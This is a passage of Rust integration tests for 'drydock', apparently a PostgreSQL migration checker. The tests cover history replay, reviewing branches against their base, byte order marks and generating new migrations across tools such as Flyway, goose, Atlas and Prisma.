    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let repos: Vec<(String, String)> = String::from_utf8(made.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            let (repo, dir) = l.split_once(' ').unwrap();
            (repo.to_string(), dir.to_string())
        })
        .collect();
    assert_eq!(repos.len(), 9, "one repository per format");
    let checksummed = ["flyway", "sqlx", "prisma", "atlas"];
    let replay = |(repo, dir): &(String, String)| {
        let out = Command::new("bash")
            .arg(root.join("scripts/replay-history.sh"))
            .args([repo, dir])
            .env("DRYDOCK", BIN)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let text = String::from_utf8(out.stdout).unwrap();
        let format = Path::new(repo).file_name().unwrap().to_str().unwrap();
        let mut replayed = 0;
        for line in text.lines().filter(|l| l.contains(" exit ")) {
            replayed += 1;
            let (_, rest) = line.split_once(" exit ").unwrap();
            let (code, subject) = rest.split_once(' ').unwrap();
            let subject = subject.trim();
            let expected = if subject.starts_with("Drop users.legacy_ref")
                || (subject.starts_with("Refunds; fix a comment") && checksummed.contains(&format))
            {
                "1"
            } else {
                "0"
            };
            assert_eq!(code, expected, "{format}: {subject}\n{text}");
        }
        assert!(replayed >= 11, "{format}\n{text}");
        assert!(
            text.contains("0 blamed the environment, 0 blamed files the commit did not touch"),
            "{format}\n{text}"
        );
    };
    // Two at a time: one per core.
    let (first, second) = repos.split_at(repos.len() / 2);
    std::thread::scope(|s| {
        s.spawn(|| first.iter().for_each(replay));
        second.iter().for_each(replay);
    });
}

/// A branch that has fallen behind its base is reviewed for what it changed since it left it:
/// a migration merged on the base since is neither deleted by the branch nor newer than the
/// branch's own (the pull request's three-dot diff).
#[test]
fn a_branch_behind_its_base_is_reviewed_for_what_it_changed() {
    if no_local_postgres() {
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let dir = t.path().join("migrations");
    fs::create_dir_all(&dir).unwrap();
    let write = |name: &str, sql: &str| fs::write(dir.join(name), sql).unwrap();
    write(
        "1_orders.up.sql",
        "CREATE TABLE orders (id bigint PRIMARY KEY);\n",
    );
    git(t.path(), &["init", "-q", "-b", "main"]);
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "orders"]);
    git(t.path(), &["checkout", "-q", "-b", "refunds"]);
    write(
        "2_refunds.up.sql",
        "CREATE TABLE refunds (id bigint PRIMARY KEY);\n",
    );
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "refunds"]);
    git(t.path(), &["checkout", "-q", "main"]);
    write(
        "3_invoices.up.sql",
        "CREATE TABLE invoices (id bigint PRIMARY KEY);\n",
    );
    git(t.path(), &["add", "."]);
    git(t.path(), &["commit", "-q", "-m", "invoices"]);
    git(t.path(), &["checkout", "-q", "refunds"]);
    let out = check(t.path(), &["--base", "main", "--postgres", "local"]);
    let report = json(&out);
    assert_eq!(out.status.code(), Some(0), "{report:#}");
    assert!(
        findings_of(&report, "migration-deleted").is_empty(),
        "{report:#}"
    );
    assert!(
        findings_of(&report, "out-of-order-version").is_empty(),
        "{report:#}"
    );
    let reviewed: Vec<&Value> = report["directories"][0]["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["reviewed"] == true)
        .collect();
    assert_eq!(reviewed.len(), 1, "{report:#}");
    assert_eq!(reviewed[0]["file"], "migrations/2_refunds.up.sql");
}

/// A file saved "UTF-8 with BOM": Flyway strips the mark and runs it; every other tool sends it
/// to PostgreSQL, which rejects it at an invisible character. So Flyway's applies, and the
/// others' is named as a file to save without the mark (not as a statement that fails).
#[test]
fn a_byte_order_mark_is_stripped_where_flyway_strips_it_and_named_elsewhere() {
    if no_local_postgres() {
        return;
    }
    let sql = "\u{feff}CREATE TABLE orders (id bigint PRIMARY KEY);\n";
    for (format, file, applies) in [
        ("flyway", "V1__orders.sql", true),
        ("golang-migrate", "1_orders.up.sql", false),
        ("plain", "001_orders.sql", false),
    ] {
        let t = repo_with(&[(file, sql)]);
        let out = check(
            t.path(),
            &["--postgres", "local", "--migration-format", format],
        );
        let report = json(&out);
        let invalid = findings_of(&report, "invalid-file");
        assert!(
            findings_of(&report, "migration-fails").is_empty(),
            "{format}: {report:#}"
        );
        if applies {
            assert!(invalid.is_empty(), "{format}: {report:#}");
            assert_eq!(out.status.code(), Some(0), "{format}: {report:#}");
            assert!(
                report["schema_changes"].to_string().contains("orders"),
                "{format}: {report:#}"
            );
        } else {
            assert_eq!(invalid.len(), 1, "{format}: {report:#}");
            let message = invalid[0]["message"].as_str().unwrap();
            assert!(message.contains("byte order mark"), "{message}");
            assert!(
                invalid[0]["file"].as_str().unwrap().ends_with(file),
                "{format}: {report:#}"
            );
            assert_eq!(out.status.code(), Some(1), "{format}: {report:#}");
        }
    }
}

/// `drydock new` in a directory of each format writes the migration its tool runs next: after
/// the merged one, with the header's lock_timeout in force (no missing-lock-timeout), and with
/// `--no-transaction` outside a transaction, so that CREATE INDEX CONCURRENTLY applies. Atlas'
/// `atlas.sum` is rewritten to match.
#[test]
fn drydock_new_writes_the_next_migration_each_tool_runs_as_written() {
    if no_local_postgres() {
        return;
    }
    let table = "CREATE TABLE orders (id bigint PRIMARY KEY, note text);\n";
    let sections = |up: &str, down: &str| format!("{up}\n{table}\n{down}\nDROP TABLE orders;\n");
    let goose = sections("-- +goose Up", "-- +goose Down");
    let dbmate = sections("-- migrate:up", "-- migrate:down");
    let atlas_sum = drydock::plan::atlas_sum::compute(&[(
        "20240101000000_orders.sql".into(),
        table.as_bytes().to_vec(),
    )]);
    let drop = "DROP TABLE orders;\n";
    let formats: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("plain", vec![("0001_orders.sql", table)]),
        (
            "atlas",
            vec![
                ("20240101000000_orders.sql", table),
                ("atlas.sum", &atlas_sum),
            ],
        ),
        (
            "golang-migrate",
            vec![
                ("000001_orders.up.sql", table),
                ("000001_orders.down.sql", drop),
            ],
        ),
        ("goose", vec![("00001_orders.sql", &goose)]),
        ("flyway", vec![("V1__orders.sql", table)]),
        ("dbmate", vec![("20240101000000_orders.sql", &dbmate)]),
        ("sqlx", vec![("20240101000000_orders.sql", table)]),
        (
            "diesel",
            vec![
                ("2024-01-01-000000_orders/up.sql", table),
                ("2024-01-01-000000_orders/down.sql", drop),
            ],
        ),
        (
            "prisma",
            vec![
                ("20240101000000_orders/migration.sql", table),
                ("migration_lock.toml", "provider = \"postgresql\"\n"),
            ],
        ),
        (
            "popx",
            vec![
                ("20240101000000000000_orders.postgres.up.sql", table),
                ("20240101000000000000_orders.postgres.down.sql", drop),
            ],
        ),
    ];
    for (format, base) in &formats {
        for no_transaction in [false, true] {
            let case = format!("{format}, no transaction: {no_transaction}");
            let t = tempfile::tempdir().unwrap();
            for (name, content) in base {
                let path = t.path().join("migrations").join(name);
                fs::create_dir_all(path.parent().unwrap()).unwrap();
                fs::write(path, content).unwrap();
            }
            git(t.path(), &["init", "-q", "-b", "main"]);
            git(t.path(), &["add", "."]);
            git(t.path(), &["commit", "-q", "-m", "base"]);
            let format_arg = ["--migration-format", format];
            let mut args = vec!["new", "Add orders' note index", "migrations"];
            args.extend(format_arg);
            if no_transaction {
                args.push("--no-transaction");
            }
            let out = drydock(&args, t.path());
            let stdout = String::from_utf8_lossy(&out.stdout).to_string();
            assert_eq!(
                out.status.code(),
                Some(0),
                "{case}: {stdout}{}",
                String::from_utf8_lossy(&out.stderr)
            );
            let up = stdout
                .lines()
                .filter_map(|l| l.strip_prefix("created "))
                .find(|p| !p.contains("down") && !p.ends_with(".conf") && !p.ends_with(".toml"))
                .unwrap_or_else(|| panic!("{case}: {stdout}"));
            assert!(up.contains("add_orders_note_index"), "{case}: {up}");
            // Atlas' atlas.sum matches the new file (editing it needs `atlas migrate hash`).
            let lint = drydock(&["lint", "migrations", "--format", "json"], t.path());
            assert!(
                !String::from_utf8_lossy(&lint.stdout).contains("atlas-sum-mismatch"),
                "{case}: {}",
                String::from_utf8_lossy(&lint.stdout)
            );
            let statement = if no_transaction {
                "CREATE INDEX CONCURRENTLY orders_note_idx ON orders (note);\n"
            } else {
                "ALTER TABLE orders ADD COLUMN total integer;\n"
            };
            // Into the up section: before the down marker of a file that holds both.
            let path = t.path().join(up);
            let text = fs::read_to_string(&path).unwrap();
            let at = ["-- +goose Down", "-- migrate:down"]
                .iter()
                .find_map(|marker| text.find(marker))
                .unwrap_or(text.len());
            fs::write(&path, format!("{}{statement}{}", &text[..at], &text[at..])).unwrap();

            let mut args = vec![
                "check",
                "migrations",
                "--base",
                "main",
                "--format",
                "json",
                "--postgres",
                "local",
            ];
            args.extend(format_arg);
            let out = drydock(&args, t.path());
            let report = json(&out);
            let files = report["directories"][0]["files"].as_array().unwrap();
            let last = files.last().unwrap();
            assert!(
                up.ends_with(last["file"].as_str().unwrap()) && last["reviewed"] == true,
                "{case}: the new migration runs after the merged one: {report:#}"
            );
            assert_eq!(last["status"], "applied", "{case}: {report:#}");
            assert!(
                findings_of(&report, "migration-fails").is_empty(),
                "{case}: {report:#}"
            );
            if !no_transaction {
                assert!(
                    findings_of(&report, "missing-lock-timeout").is_empty(),
                    "{case}: the header sets it: {report:#}"
                );
            }
        }
    }
}
